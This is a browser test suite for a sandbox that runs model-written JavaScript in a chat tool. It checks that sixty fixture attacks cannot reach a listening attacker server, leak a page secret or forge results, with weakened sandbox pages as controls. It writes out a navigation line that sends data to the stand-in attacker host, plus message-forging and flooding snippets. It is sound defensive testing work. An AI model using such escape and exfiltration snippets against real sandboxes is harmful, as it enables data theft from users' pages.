// CI only: sixty attacks, some of which take the time that code is given
// engines: workers, parser
/** What code from a model can do in the sandbox: nothing but calculate. Every attack runs against a server that hears each connection. */
import { expect } from 'chai';
import { readFile } from 'node:fs/promises';
import { listenToAll, type Enemy } from './attacker.js';
import { html } from './host-server.js';
import { allow, say, textOfChat, toolUse, untilReady, useSite } from './widget.js';

/** What code from a model may try; `AT` in it is the attacker's host and port. `reaches`: it does where nothing protects, as a control. */
interface Attack {
  name: string;
  reaches?: true;
  code: string;
  /** What the call has to say, as JSON; without it any sentence will do. */
  says?: string;
  /** Milliseconds that the code has. */
  timeout?: number;
}
const attacks = JSON.parse(await readFile(new URL('../fixtures/sandbox-attacks.json', import.meta.url), 'utf8')) as Attack[];
/** Code, and what it gives; nothing is left from one run to the next. */
const values = JSON.parse(await readFile(new URL('../fixtures/sandbox-values.json', import.meta.url), 'utf8')) as [string, object][];
const calls = attacks.filter(({ reaches }) => reaches);

const SECRET = 'secret-of-the-page';

interface Told {
  /** What the call gave, or said, as JSON. */
  said: string;
  failed: boolean;
  ms: number;
  /** Milliseconds between two ticks of the page, at worst. */
  gap: number;
}

const PAGE = html('Sandbox', await readFile(new URL('../fixtures/pages/sandbox.html', import.meta.url), 'utf8'));

type RunInPage = (code: string, options?: object) => Promise<Told>;

describe('code in the sandbox', () => {
  const { driver, site } = useSite();
  let enemy: Enemy;

  before(async () => {
    enemy = await listenToAll();
    const sandbox = await readFile(new URL('../../src/toolkits/sandbox/tool-chat-sandbox.html', import.meta.url), 'utf8');
    const without = (text: string, part: string | RegExp) => {
      const rest = text.replace(part, '');
      expect(rest).to.not.equal(text);
      return rest;
    };
    const policy = /<meta\s+http-equiv="Content-Security-Policy"[^>]*>/;
    const before = (statement: string) => sandbox.replace('begun = true;', `begun = true; ${statement}`);
    const guide = await readFile(new URL('../../docs/hands.md', import.meta.url), 'utf8');
    const [, headers = ''] = /<!-- sandbox policy -->\n\n```text\n(.*)\n```/.exec(guide) ?? [];
    const [, element = ''] = /```html\n(<tool-chat[^\n]*sandbox-url[^\n]*)\n```/.exec(guide) ?? [];
    const [, sample = ''] = /<!-- sample: sandbox -->\n\n```js\n([\s\S]*?)\n```/.exec(guide) ?? [];
    const give = `${sample.replace('tool-chat/tools', '/dist/lib/toolkits/index.js')}\ngiveCode(document.querySelector('tool-chat'));`;
    const scripts = '<script type="module" src="/dist/tool-chat.js"></script><script type="module" src="/give.js"></script>';
    const strict =
      "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; frame-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html";
    const files: Record<string, [content: string, policy?: string]> = {
      'tool-chat-sandbox.html': [sandbox],
      'headed.html': [sandbox, headers],
      'policy-alone.html': [without(sandbox, 'strip();')],
      'stripped-alone.html': [without(sandbox, policy)],
      'unprotected.html': [without(without(sandbox, policy), 'strip();')],
      'in-the-frame.html': [sandbox.replace('begun = true;', `port.postMessage([data.id, 'begun', '']); (0, eval)(data.code);`)],
      'guessing.html': [before(`port.postMessage(['guess', 'result', '"forged"']); port.postMessage('forged'); port.postMessage(null);`)],
      'flooding.html': [before(`for (let at = 0; at < 300; at++) port.postMessage([data.id, 'log', 'line']); return;`)],
      'huge.html': [
        before(`port.postMessage([data.id, 'begun', '']); port.postMessage([data.id, 'result', '"' + 'x'.repeat(2e6) + '"']); return;`),
      ],
      'give.js': [give],
      'page.css': ['tool-chat { height: 90vh }'],
      'chat.html': [html('Code', `<link rel="stylesheet" href="/page.css">${element}${scripts}`), strict],
      'page.html': [PAGE],
      'no-frames.html': [PAGE, "frame-src 'none'"],
      'closed.html': [PAGE, "frame-src 'self'"],
    };
    for (const [path, [content, policyOfPage]] of Object.entries(files)) site.put(`/${path}`, content, policyOfPage);
  });
  after(() => enemy.stop());
  beforeEach(async function () {
    enemy.heard.length = 0;
    // One page stands many attacks; what would not be well after one of them gets another.
    const isElsewhere = !(await driver.evaluate(() => location.pathname)).endsWith('/page.html');
    if (isElsewhere || this.currentTest?.parent?.tests.some(({ state }) => state === 'failed')) await open('/page.html');
  });

  async function open(path: string) {
    await driver.open(site.url + path);
    await driver.waitFor(() => 'run' in window);
  }

  const run = (code: string, options: { sandboxUrl?: string; timeout?: number } = {}) =>
    driver.evaluate(
      (given, how) => (window as unknown as { run: RunInPage }).run(given, how),
      code.replaceAll('AT/', `${enemy.at}/`).replaceAll("AT'", `${enemy.at}'`),
      options,
    );

  const given = async (code: string, options: { sandboxUrl?: string } = {}) => JSON.parse((await run(code, options)).said) as unknown;

  it('gives what an expression, a script and a function give, with the lines of the console (S3-04, S3-26)', async () => {
    for (const [code, expected] of values) expect(await given(code), code).to.deep.equal(expected);
    expect(await driver.count('iframe')).to.equal(0);
  });

  it('takes the address of the element, asks, and gives the model what came out, under a strict policy (S3-26)', async () => {
    await driver.open(`${site.url}/chat.html`);
    await untilReady(driver);
    site.say(toolUse('browser_js_eval', { code: '[1, 2, 3].map((n) => n * 111)' }), 'Done so.');
    await say(driver, 'Go');
    await allow(driver, 'browser_js_eval');
    expect(await textOfChat(driver)).to.contain('Done so.');
    expect(JSON.stringify(site.asked.at(-1))).to.contain('111,222,333');
    expect(await driver.evaluate(() => document.querySelector('tool-chat')?.sandboxUrl)).to.equal('/tool-chat-sandbox.html');
  });

  it('runs under the headers that the guide names, and under no other page', async () => {
    expect(await given('6 * 7', { sandboxUrl: '/headed.html' })).to.deep.equal({ result: 42 });
    await open('/no-frames.html');
    const told = await run('6 * 7');
    expect(told.said).to.contain('does not answer').and.contain('frame-src');
    expect(await driver.count('iframe')).to.equal(0);
  });

  for (const { name, code, says = '.', timeout } of attacks)
    it(`stands ${name}`, async () => {
      const told = await run(code, timeout ? { timeout } : {});
      expect(told.said).to.match(new RegExp(says, 's'));
      expect(told.said).to.not.contain(SECRET).and.not.contain('forged').and.not.contain('reached');
      expect(enemy.heard).to.deep.equal([]);
      const page = () => ({
        frames: document.querySelectorAll('iframe').length,
        forged: (window as unknown as { forged: unknown[] }).forged,
        polluted: ({} as { polluted?: unknown }).polluted ?? null,
      });
      expect(await driver.evaluate(page)).to.deep.equal({ frames: 0, forged: [], polluted: null });
      if (timeout) expect(await given('1+1'), 'the page is alive').to.deep.equal({ result: 2 });
    });

  /** What of the calls reaches the attacker on a page with less protection. */
  async function reach(sandboxUrl: string): Promise<string[]> {
    const reached: string[] = [];
    for (const { name, code } of calls) {
      enemy.heard.length = 0;
      await run(code, { timeout: 3000, sandboxUrl });
      if (enemy.heard.length > 0) reached.push(name);
    }
    return reached;
  }

  it('is kept from the network by the policy alone; without it only imports, which are no function, get through', async () => {
    expect(await reach('/policy-alone.html')).to.deep.equal([]);
    expect((await reach('/stripped-alone.html')).filter((name) => !name.includes('import'))).to.deep.equal([]);
  });

  it('as a control: with neither, every one of these calls reaches the attacker', async () => {
    expect(await reach('/unprotected.html')).to.deep.equal(calls.map(({ name }) => name));
  });

  it('never stands in the frame, where it could send itself away; as a control: there it can, unless the page names its frames', async () => {
    const away = `location = 'http://AT/away?d=1'`;
    await run(away, { sandboxUrl: '/in-the-frame.html', timeout: 1000 });
    // WebKit leaves nowhere from there by itself.
    if (driver.engine !== 'webkit') expect(enemy.heard.join()).to.contain('/away?d=1');
    await open('/closed.html');
    enemy.heard.length = 0;
    await run(away, { sandboxUrl: '/in-the-frame.html', timeout: 1000 });
    expect(enemy.heard).to.deep.equal([]);
    expect(await given('1+1')).to.deep.equal({ result: 2 });
  });

  it('is heard by its port and its id only, and no more often than is counted', async () => {
    // Without the other lock, a message of its own goes to nobody.
    const own = await run(`postMessage(['x', 'result', '"forged"']); postMessage('ready'); 5`, { sandboxUrl: '/policy-alone.html' });
    expect(JSON.parse(own.said)).to.deep.equal({ result: 5 });
    const slow = run(`let n = 0; while (n < 3e7) n += 1; n`);
    await driver.evaluate(() => window.postMessage(['x', 'result', '"forged"'], '*'));
    expect(JSON.parse((await slow).said)).to.deep.equal({ result: 3e7 });
    // A page that is not ours, in place of the sandbox page.
    expect(JSON.parse((await run('7', { sandboxUrl: '/guessing.html' })).said)).to.deep.equal({ result: 7 });
    expect((await run('8', { sandboxUrl: '/flooding.html' })).said).to.contain('sent more than is taken');
    expect((await run('9', { sandboxUrl: '/huge.html', timeout: 1500 })).said).to.not.contain('xxxx');
  });

  it('ends in time when it loops, and the page does not feel it', async () => {
    const told = await run('for (;;);', { timeout: 1000 });
    expect(told.said).to.contain('did not end within 1 s').and.contain('TIMEOUT');
    expect(told.gap, 'the page stood still for less than the code ran').to.be.below(told.ms / 2);
  });

  it('stops when the call is stopped, and gives the lines so far', async () => {
    const told = await driver.evaluate(async () => {
      const stop = new AbortController();
      setTimeout(() => stop.abort(), 700);
      const { run } = window as unknown as { run: RunInPage };
      return run(`console.log('begun'); for (;;);`, { signal: stop.signal, timeout: 20_000 });
    });
    expect(told.said).to.contain('CANCELLED').and.contain('begun');
    expect(told.ms, 'before its time is over').to.be.below(20_000);
    expect(await driver.count('iframe')).to.equal(0);
  });

  it('does not run where the page of the sandbox has the rights of a site', async () => {
    const answered = await driver.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.src = '/dist/tool-chat-sandbox.html';
      const { port1, port2 } = new MessageChannel();
      const answer = new Promise((resolve) => (port1.onmessage = ({ data }) => resolve(data)));
      frame.onload = () => frame.contentWindow?.postMessage({ id: 'x', code: 'parent.owned = 1' }, '*', [port2]);
      document.body.append(frame);
      const said = await answer;
      frame.remove();
      return { said, owned: 'owned' in window };
    });
    expect(answered).to.deep.equal({ said: ['x', 'exposed', ''], owned: false });
  });
});
